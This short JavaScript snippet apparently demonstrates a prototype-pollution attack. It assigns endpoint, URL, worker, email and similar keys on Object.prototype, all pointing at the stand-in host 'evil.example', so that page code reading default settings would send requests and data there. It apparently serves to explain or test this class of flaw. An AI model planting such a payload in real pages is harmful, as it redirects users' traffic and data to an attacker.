// What a hole in some library of the page makes possible.
(() => {
  const evil = 'https://evil.example/';
  const fields = {
    endpoint: evil,
    kb: evil,
    url: evil,
    baseUrl: evil,
    worker: evil,
    statusUrl: evil,
    email: 'a@evil.example',
  };
  Object.assign(Object.prototype, fields, {
    adapter: 'http',
    consent: 'denied',
    instance: 'evil',
    dest: { url: evil },
  });
})();
